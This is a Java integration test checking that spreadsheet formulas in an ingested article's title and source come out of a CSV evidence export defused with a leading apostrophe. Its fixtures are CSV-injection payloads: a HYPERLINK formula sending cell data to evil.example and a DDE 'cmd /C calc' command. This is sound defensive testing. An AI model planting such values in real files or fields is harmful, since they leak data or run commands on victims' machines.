package org.policygraph.security;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.policygraph.ingest.IngestListener;
import org.policygraph.ingest.IngestOptions;
import org.policygraph.ingest.IngestReport;
import org.policygraph.ingest.IngestService;
import org.policygraph.ingest.read.ArticleDraft;
import org.policygraph.ingest.read.ArticleValidator;
import org.policygraph.ingest.read.ReadResult;
import org.policygraph.support.HarnessIntegrationTests;
import org.policygraph.support.TestArticles;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * An article whose title and source are spreadsheet formulas, ingested as a reader's
 * record is, comes out of the evidence export as text a spreadsheet shows instead of
 * running.
 */
class CsvInjectionIT extends HarnessIntegrationTests {

	private static final String PREFIX = "https://csv-injection.example/";

	private static final String TITLE = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Nghệ An thực hiện Chỉ thị\")";

	private static final String SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0";

	private static final String DOCUMENT = "981-CT/TW|TW|2020-02-01";

	@LocalServerPort
	private int port;

	@Autowired
	private Driver driver;

	@Autowired
	private IngestService ingest;

	@AfterEach
	void removeArticles() {
		TestArticles.remove(this.driver, PREFIX);
	}

	@Test
	void shouldDefuseFormulasOfAnIngestedArticleInTheEvidenceExport() throws Exception {
		RawHttp http = new RawHttp(this.port);
		ReadResult read = new ArticleValidator(Clock.systemUTC()).validate(new ArticleDraft(TITLE,
				"Ban Thường vụ Tỉnh ủy Nghệ An tổ chức quán triệt và triển khai thực hiện Chỉ thị số 981-CT/TW ngày 1-2-2020 của Ban Bí thư.",
				PREFIX + "hyperlink", "2020-02-20", SOURCE, null, "input[0]"));
		IngestReport report = this.ingest.ingestRecords(List.of(read), IngestOptions.defaults(), IngestListener.NONE);
		assertThat(report.newArticles()).as(report.toString()).isEqualTo(1);

		RawHttp.Answer export = http.get("/export/evidence.csv?provinceKey=40&documentKey="
				+ URLEncoder.encode(DOCUMENT, StandardCharsets.UTF_8), null, null);

		assertThat(export.status()).as(export.body()).isEqualTo(200);
		List<String[]> rows = csv(export.body());
		assertThat(rows).hasSize(2);
		assertThat(rows.get(1)[0]).isEqualTo("'" + TITLE);
		assertThat(rows.get(1)[1]).isEqualTo("'" + SOURCE);
		assertThat(rows.get(1)[2]).isEqualTo(PREFIX + "hyperlink");
		assertThat(rows.get(1)[4]).startsWith("Ban Thường vụ Tỉnh ủy Nghệ An");
	}

	private static List<String[]> csv(String body) {
		String text = body.startsWith("\uFEFF") ? body.substring(1) : body;
		List<String[]> rows = new ArrayList<>();
		CsvMapper.builder()
			.enable(CsvReadFeature.WRAP_AS_ARRAY)
			.build()
			.readerFor(String[].class)
			.<String[]>readValues(text)
			.forEachRemaining(rows::add);
		return rows;
	}

}
